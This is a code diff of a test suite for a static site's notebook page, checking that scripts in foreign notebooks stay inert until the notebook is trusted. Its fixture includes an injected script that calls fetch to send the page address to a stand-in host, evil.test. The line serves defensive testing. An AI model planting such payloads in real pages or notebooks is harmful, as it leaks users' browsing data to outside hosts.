@@ -171,7 +171,7 @@ describe("the notebook page of a static site", function () {
   /** A notebook from somewhere else, with outputs that want to run and claim that they may. */
   function hostile(): string {
     const foreign = JSON.parse(
-      notebookText(["1", "html <script>window.own = 1</script>"], "tslab"),
+      notebookText(["1", "html <p>mine</p><script>window.own = String(origin)</script>"], "tslab"),
     );
     const script = "window.evil = 1; fetch('http://evil.test/' + location.href)";
     for (const cell of foreign.cells)
@@ -196,7 +196,7 @@ describe("the notebook page of a static site", function () {
     return JSON.stringify(foreign);
   }
 
-  it("leaves a foreign notebook still until it is trusted; what is run here is live, also after a reload", async () => {
+  it("leaves a foreign notebook still until it is trusted; what is run here is live in a frame, also after a reload", async () => {
     const page = await site.open(LESSON);
     /** What the frames in which outputs run scripts of their own have under a name. */
     const inFrames = async (name: string) => {
